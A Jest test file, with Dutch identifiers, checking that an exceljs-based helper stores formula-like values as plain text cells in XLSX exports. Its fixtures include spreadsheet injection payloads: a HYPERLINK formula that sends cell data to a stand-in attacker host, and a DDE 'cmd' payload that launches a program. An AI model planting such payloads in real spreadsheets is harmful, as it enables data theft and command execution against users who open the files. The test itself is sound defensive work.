import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { markeerTekstCellen, TEKST_FORMAAT } from './xlsx-veilig';

/** Writes one sheet with exceljs' streaming writer (as the report does) and reads it back. */
async function schrijfEnLees(rijen: unknown[][]): Promise<ExcelJS.Worksheet> {
  const stream = new PassThrough();
  const delen: Buffer[] = [];
  stream.on('data', (d: Buffer) => delen.push(d));
  const klaar = new Promise((resolve) => stream.on('end', resolve));
  const wb = new ExcelJS.stream.xlsx.WorkbookWriter({ stream, useStyles: true });
  const ws = wb.addWorksheet('Blad');
  for (const r of rijen) markeerTekstCellen(ws.addRow(r)).commit();
  await ws.commit();
  await wb.commit();
  await klaar;
  const terug = new ExcelJS.Workbook();
  await terug.xlsx.load(Buffer.concat(delen) as unknown as ArrayBuffer);
  return terug.getWorksheet('Blad')!;
}

describe('xlsx-veilig: formula-like text stays text in XLSX, without an apostrophe', () => {
  it('keeps the text as typed, as a string cell with the Text format; other cells keep theirs', async () => {
    const titel = '=HYPERLINK("https://aanvaller.example/?"&A1;"klik")';
    const ws = await schrijfEnLees([
      [titel, "+cmd|' /C calc'!A0", '@SUM(1+9)*cmd|x', '-2+3+cmd|x'],
      ['Utrecht', -0.05, '-0,05', null],
    ]);
    const [a, b, c, d] = [1, 2, 3, 4].map((i) => ws.getRow(1).getCell(i));
    expect([a.value, b.value, c.value, d.value]).toEqual([
      titel,
      "+cmd|' /C calc'!A0",
      '@SUM(1+9)*cmd|x',
      '-2+3+cmd|x',
    ]);
    for (const cel of [a, b, c, d]) {
      expect(cel.type).toBe(ExcelJS.ValueType.String);
      expect(cel.numFmt).toBe(TEKST_FORMAAT);
    }
    const tweede = ws.getRow(2);
    expect(tweede.getCell(1).numFmt).toBeUndefined();
    // a negative figure stays a number; a bare Dutch number stays plain text
    expect(tweede.getCell(2).value).toBe(-0.05);
    expect(tweede.getCell(2).type).toBe(ExcelJS.ValueType.Number);
    expect(tweede.getCell(3).value).toBe('-0,05');
    expect(tweede.getCell(3).numFmt).toBeUndefined();
  });
});
